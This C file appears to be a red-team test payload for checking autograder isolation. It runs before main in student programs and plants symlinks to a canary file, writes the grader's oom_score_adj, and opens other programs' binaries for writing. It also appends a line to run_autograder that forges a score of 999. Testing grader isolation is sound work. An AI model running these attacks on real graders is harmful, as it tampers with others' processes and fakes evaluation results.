/* attack.c - the red team's payload: what a student program might try against the grader that
 * runs it. Dropped into a copy of a correct submission's exercise folder, it is linked into
 * every program of that exercise and runs before main (a constructor). A correct grader gives
 * that submission full marks and lets none of it succeed.
 *
 * @CANARY@ is replaced by the test with the path of a file of the grader's user that no student
 * program may write: every link planted here points at it, so a privileged open that followed one
 * would change it. @PROBE@ is 1 where the program should also look for inherited descriptors and
 * fail if it finds one (0 elsewhere, so that the links are planted by programs that run on). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define CANARY "@CANARY@"
#define PROBE_DESCRIPTORS @PROBE@

static const char *const programs[] = {
    "echo_server", "echo_client", "upper_server", "upper_client", "seqnum_server",
    "seqnum_client", "udp_echo_server", "udp_echo_client", "frame_send", "frame_recv",
    "conc_echo_server", "chat_server", "http_server", NULL,
};

/* The names of this program and of its partner (echo_server and echo_client, say). */
static void own_names(char names[2][64])
{
    snprintf(names[0], 64, "%s", program_invocation_short_name);
    snprintf(names[1], 64, "%s", program_invocation_short_name);
    char *server = strstr(names[1], "_server"), *client = strstr(names[1], "_client");
    if (server)
        memcpy(server, "_client", 7);
    else if (client)
        memcpy(client, "_server", 7);
}

/* A link named like every file the grader might open for a later program of this check (its
 * stdin, stdout, stderr), wherever this program can write, and where it should not be able to. */
static void plant_links(void)
{
    static const char *const dirs[] = { ".", "..", "../io", NULL };
    static const char *const exts[] = { "out", "err", "in", NULL };
    char names[2][64], name[512];
    own_names(names);
    for (int d = 0; dirs[d]; d++)
        for (int p = 0; p < 2; p++)
            for (int k = 0; k < 8; k++)
                for (int e = 0; exts[e]; e++) {
                    snprintf(name, sizeof name, "%s/%s-%d.%s", dirs[d], names[p], k, exts[e]);
                    if (symlink(CANARY, name) < 0 && errno != EEXIST) { /* refused: as it should be */ }
                }
}

/* Any descriptor but 0, 1, 2 is a handle on the grader (Criterion's shared memory, its sockets):
 * a program that finds one says so and fails every check it is in. */
static void probe_descriptors(void)
{
    for (int fd = 3; fd < 1024; fd++) {
        if (fcntl(fd, F_GETFD) >= 0) {
            char link[64], target[256] = "?";
            snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
            ssize_t n = readlink(link, target, sizeof target - 1);
            target[n > 0 ? n : 1] = '\0';
            fprintf(stderr, "red team: inherited descriptor %d (%s)\n", fd, target);
            _exit(3);
        }
    }
}

/* Tries on the grader's own process (the parent) and on what the grader runs later. */
static void poke_grader(void)
{
    char path[512];
    snprintf(path, sizeof path, "/proc/%d/oom_score_adj", (int)getppid());
    int fd = open(path, O_WRONLY);
    if (fd >= 0) {
        if (write(fd, "1000", 4) == 4)
            fprintf(stderr, "red team: wrote the grader's oom_score_adj\n");
        close(fd);
    }
    snprintf(path, sizeof path, "/proc/%d/fd/1", (int)getppid());
    fd = open(path, O_WRONLY | O_APPEND);
    if (fd >= 0) {
        fprintf(stderr, "red team: opened the grader's stdout\n");
        close(fd);
    }
    for (int p = 0; programs[p]; p++) {     /* replace another program's binary */
        for (int up = 0; up < 6; up++) {
            char bin[256] = "";
            for (int i = 0; i < up; i++)
                strcat(bin, "../");
            snprintf(path, sizeof path, "%sbuild/03-inet-stream-seqnum/bin/%s", bin, programs[p]);
            fd = open(path, O_WRONLY | O_TRUNC);
            if (fd >= 0) {
                fprintf(stderr, "red team: opened %s for writing\n", path);
                close(fd);
            }
        }
    }
    fd = open("/autograder/run_autograder", O_WRONLY | O_APPEND);
    if (fd >= 0) {
        if (write(fd, "\necho '{\"score\": 999}' >/autograder/results/results.json\n", 56) > 0)
            fprintf(stderr, "red team: appended to run_autograder\n");
        close(fd);
    }
}

__attribute__((constructor)) static void red_team(void)
{
    plant_links();
    poke_grader();
    if (PROBE_DESCRIPTORS)
        probe_descriptors();
}
